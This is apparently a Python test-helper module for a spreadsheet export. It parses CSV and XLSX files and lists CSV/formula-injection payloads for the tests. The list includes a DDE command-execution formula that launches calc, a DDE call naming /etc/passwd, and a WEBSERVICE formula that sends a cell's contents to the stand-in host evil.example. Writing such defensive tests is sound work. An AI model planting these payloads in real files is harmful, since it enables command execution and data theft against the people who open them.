"""How tests read tables: CSV by the letter of RFC 4180, workbooks by the letter of their standard."""

import io
import re
from xml.etree import ElementTree
from zipfile import ZipFile

from units.spreadsheets.cells import unguarded

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# What any spreadsheet begins a formula with, once it has left out what some leave out.
BEGINS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
PAYLOADS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(1)",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "a;=1+1",
    "a;'=1+1",
    '=HYPERLINK("https://evil.example";"click")',
    "=cmd|' /C calc'!A0",
    '=DDE("soffice";"/etc/passwd";"1")',
    '=WEBSERVICE(CONCATENATE("https://evil.example/?",A1))',
]
# What a document can't hold, but a cell must not choke on.
CONTROLS = ["\t=1+1", "\r=1+1", "\n=1+1", "a\n=1+1", "a\r\n=1+1"]


def cells_of(text):
    """Return the rows of `text`, CSV exactly as RFC 4180 has it: every line ends with CRLF."""
    rows, row, at = [], [], 0
    while at < len(text):
        if text[at] == '"':
            match = re.compile(r'"((?:[^"]|"")*)"').match(text, at)
            row.append(match[1].replace('""', '"'))
        else:
            match = re.compile(r'[^",\r\n]*').match(text, at)
            row.append(match[0])
        at = match.end()
        if text.startswith("\r\n", at):
            rows.append(row)
            row, at = [], at + 2
        else:
            assert text[at] == ",", (at, text[at : at + 20])
            at += 1
    assert row == []
    return rows


def rows_of_csv(raw):
    """Return the table in `raw` as dicts, with the texts that its cells were made of."""
    header, *rows = cells_of(raw.decode().removeprefix("\ufeff"))
    return [dict(zip(header, map(unguarded, row), strict=True)) for row in rows]


def sheets_of(raw):
    """Return {title: rows of texts} of the workbook `raw`, in which every cell is a text or a number."""
    found = {}
    with ZipFile(io.BytesIO(raw)) as archive:
        book = ElementTree.fromstring(archive.read("xl/workbook.xml"))  # noqa: S314 (our own file)
        titles = [sheet.get("name") for sheet in book.iter(f"{MAIN}sheet")]
        for number, title in enumerate(titles, 1):
            text = archive.read(f"xl/worksheets/sheet{number}.xml")
            sheet = ElementTree.fromstring(text)  # noqa: S314 (our own file)
            assert not [*sheet.iter(f"{MAIN}f")]
            found[title] = [_row(row) for row in sheet.iter(f"{MAIN}row")]
        assert not [name for name in archive.namelist() if "externalLink" in name or "vba" in name]
        assert {member.date_time for member in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    return found


def _row(row):
    cells = {}
    for cell in row:
        kind, column = cell.get("t"), re.match("[A-Z]+", cell.get("r"))[0]
        assert kind in ("inlineStr", "n")
        text = "".join(cell.itertext())
        cells[column] = re.sub("_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), text)
    return [cells.get(_letters(place), "") for place in range(max(map(_number, cells), default=-1) + 1)]


def _letters(place):
    return (chr(64 + place // 26) if place >= 26 else "") + chr(65 + place % 26)


def _number(letters):
    return int(sum((ord(letter) - 64) * 26**place for place, letter in enumerate(reversed(letters)))) - 1


def rows_of_xlsx(raw):
    """Return the first table in the workbook `raw` as dicts."""
    header, *rows = next(iter(sheets_of(raw).values()))
    return [dict(zip(header, row + [""] * (len(header) - len(row)), strict=True)) for row in rows]
